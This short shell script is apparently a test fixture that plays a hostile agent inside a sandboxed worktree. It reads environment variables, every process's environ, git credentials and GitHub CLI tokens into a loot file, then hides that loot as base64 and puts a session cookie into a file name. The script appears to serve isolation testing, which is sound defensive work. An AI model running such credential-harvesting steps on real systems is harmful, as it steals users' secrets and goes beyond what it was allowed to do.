# Sourced by the scripted agent in T1's worktree. Collects every
# environment and credential file it can reach and commits the loot.
set +e # an attacker keeps going when a step is refused
{
  env
  for p in /proc/[0-9]*; do cat "$p/environ"; echo; cat "$p/cmdline"; echo; done
  cat "$HOME/.git-credentials" @REALHOME@/.git-credentials @REALHOME@/.config/gh/hosts.yml
  ls -la @REALHOME@
} 2>&1 | tr '\0' '\n' > a/loot.txt
cp a/loot.txt "$HOME/loot.txt" 2>/dev/null || true
# The same loot disguised: base64 (wrapped at 76 columns), and a value it
# holds as a file name.
base64 < a/loot.txt > a/loot.b64
v=$(grep -a -m1 -o 'SESSION_COOKIE=[^[:space:]]*' a/loot.txt | cut -d= -f2)
[ -n "$v" ] && echo x > "a/$v.txt"
mkdir -p a && echo "T1 was here" > a/t1.txt
